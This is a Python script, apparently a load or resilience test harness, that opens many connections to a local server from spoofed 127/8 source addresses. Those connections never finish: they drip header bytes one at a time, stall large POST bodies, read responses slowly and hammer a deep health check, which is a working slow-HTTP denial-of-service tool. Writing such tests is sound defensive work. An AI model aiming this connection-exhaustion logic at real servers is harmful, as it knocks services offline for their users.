"""Attackers as a process of their own: connections that hold on and never finish, from addresses of 127/8.

    python3 attackers.py PORT ADDRESSES silent=N remade=N heads=N bodies=N readers=N deep=N

Prints `ready` when all have come once, then goes on until it is ended, and prints what it saw as JSON."""

import errno
import json
import selectors
import signal
import socket
import sys
import time

HEAD = b"GET / HTTP/1.1\r\nHost: h\r\nX-Slow: "
BODY = b"POST /api/v1/sign-in HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{"
PAGE = b"GET /api/v1/openapi.json HTTP/1.1\r\nHost: h\r\n\r\n"
DEEP = b"GET /healthz?deep=1 HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n"


class Attack:
    def __init__(self, port, addresses, kinds):
        self.port, self.addresses, self.made = port, addresses, 0
        self.select = selectors.DefaultSelector()
        self.seen = {"made": 0, "ended_by_server": 0, "refused": 0, "statuses": {}}
        self.kinds = kinds
        self.dripping, self.ending = [], False

    def connect(self, kind):
        self.made += 1
        number = self.made % self.addresses
        made = socket.socket()
        made.setblocking(False)
        if kind == "readers":
            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        try:
            made.bind((f"127.77.{number // 250}.{number % 250 + 1}", 0))
            made.connect(("127.0.0.1", self.port))
        except BlockingIOError:
            pass
        except OSError as error:
            made.close()
            if error.errno not in (errno.EADDRNOTAVAIL, errno.EMFILE):
                raise
            self.seen["refused"] += 1
            return
        self.seen["made"] += 1
        self.select.register(made, selectors.EVENT_WRITE, kind)

    def again(self, made, kind):
        self.select.unregister(made)
        made.close()
        self.connect(kind)

    def came_through(self, made, kind):
        first = {"heads": HEAD, "bodies": BODY, "readers": PAGE * 20, "deep": DEEP}.get(kind)
        try:
            if first:
                made.send(first)
        except OSError:
            self.seen["ended_by_server"] += 1
            return self.again(made, kind)
        if kind == "remade":
            return self.again(made, kind)
        self.select.modify(made, selectors.EVENT_READ if kind != "readers" else selectors.EVENT_WRITE, kind)
        if kind == "readers":
            self.select.unregister(made)  # it reads nothing, for as long as it may
            self.unread.append(made)
        if kind in ("heads", "bodies"):
            self.dripping.append((made, kind))

    def heard(self, made, kind):
        try:
            bytes_ = made.recv(4096)
        except OSError:
            bytes_ = b""
        if bytes_.startswith(b"HTTP/1.1 "):
            status = bytes_[9:12].decode()
            self.seen["statuses"][status] = self.seen["statuses"].get(status, 0) + 1
        if not bytes_ or kind == "deep":
            if not bytes_:
                self.seen["ended_by_server"] += 1
            self.again(made, kind)

    def drip(self):
        left = []
        for made, kind in self.dripping:
            try:
                if made.fileno() >= 0:
                    made.send(b"x")
                    left.append((made, kind))
            except BlockingIOError:
                left.append((made, kind))
            except OSError:
                pass  # heard() makes it anew
        self.dripping = left

    def run(self):
        self.unread, last, next_remade = [], time.monotonic(), 0
        signal.signal(signal.SIGTERM, lambda *_: setattr(self, "ending", True))
        for kind, count in self.kinds.items():
            for _ in range(count):
                self.connect(kind)
        told = False
        while not self.ending:
            for key, events in self.select.select(timeout=0.1):
                if events & selectors.EVENT_WRITE:
                    self.came_through(key.fileobj, key.data)
                else:
                    self.heard(key.fileobj, key.data)
            if not told:
                told = True
                print("ready", flush=True)
            if time.monotonic() - last > 0.5:
                last = time.monotonic()
                self.drip()
                for made in self.unread:
                    if made.fileno() >= 0 and made.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                        made.close()
                        self.connect("readers")
        print(json.dumps(self.seen), flush=True)


if __name__ == "__main__":
    Attack(int(sys.argv[1]), int(sys.argv[2]),
           {kind: int(count) for kind, count in (word.split("=") for word in sys.argv[3:])}).run()
